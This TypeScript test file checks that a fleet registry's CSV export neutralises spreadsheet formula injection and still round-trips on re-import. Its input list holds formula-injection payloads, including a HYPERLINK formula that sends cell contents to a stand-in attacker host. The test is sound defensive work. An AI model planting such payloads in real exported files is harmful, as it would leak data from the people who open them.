import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportFleet } from '../../src/registry/file/exportFleet.js';
import { loadFleet } from '../../src/registry/file/loadFleet.js';
import { ownMapping } from '../../src/schema/detect/ownMapping.js';
import { createOwnRegistry, fleetFolder, textOf } from '../support/fleetRegistry.js';
import { createTestDatabase, type TestDatabase } from '../support/testDatabase.js';

/** What spreadsheets take for a formula, some behind blanks or apostrophes; and what only looks alike. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
  '+31 6 1234',
  '-4711',
  '-',
  '@SUM(A1:A9)',
  "'=1+1",
  "''=1+1",
  ' =1+1',
  "' -1",
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '=1;=2,"=3"',
];
const HARMLESS = ["'4711", "O'Hara", '4711-1', "'", 'a=b'];
const FORMULA = /^[\s]*[=+\-@＝＋－＠\t\r]/u;

describe('an exported fleet', () => {
  const { registry } = ownMapping('public');
  let database: TestDatabase;
  let folder: Awaited<ReturnType<typeof fleetFolder>>;
  let file: string;
  beforeAll(async () => {
    database = await createTestDatabase('empty');
    folder = await fleetFolder();
    await createOwnRegistry(database.pool);
    const values = [...FORMULAS, ...HARMLESS];
    for (const value of values) {
      await database.pool.query(`INSERT INTO feeders VALUES ('A', $1, $2)`, [value, `${value} name`]);
      await database.pool.query(`INSERT INTO meters VALUES ('A', $1, $1, true)`, [value]);
    }
    file = await exported('A');
  });
  afterAll(async () => {
    await database.drop();
    await folder.remove();
  });
  const exported = (tenantId: string) =>
    textOf((open) => exportFleet(database.pool, registry, tenantId, open));
  const meters = async (tenantId: string) => {
    const { rows } = await database.pool.query(
      `SELECT meter_id, feeder_id, name FROM meters JOIN feeders USING (tenant_id, feeder_id)
       WHERE tenant_id = $1 ORDER BY meter_id COLLATE "C"`,
      [tenantId],
    );
    return rows;
  };

  it('H10: has no cell that a spreadsheet takes for a formula', () => {
    const [, ...rows] = parse(file) as string[][];
    expect(rows).toHaveLength(FORMULAS.length + HARMLESS.length);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
  });

  it('H10: leaves all other cells as they are', () => {
    const cells = (parse(file) as string[][]).flat();
    for (const value of HARMLESS) expect(cells).toContain(value);
  });

  it('H10: loaded again changes nothing, and loaded elsewhere makes the same meters', async () => {
    const load = async (tenantId: string) =>
      loadFleet(database.pool, registry, { file: await folder.file(file), tenantId, dryRun: false });
    expect(await load('A')).toMatchObject({
      meters: { added: 0, updated: 0, unchanged: FORMULAS.length + HARMLESS.length },
      feeders: { added: 0, updated: 0 },
    });
    await load('B');
    expect(await meters('B')).toEqual(await meters('A'));
    expect(await exported('B')).toBe(file);
  });
});
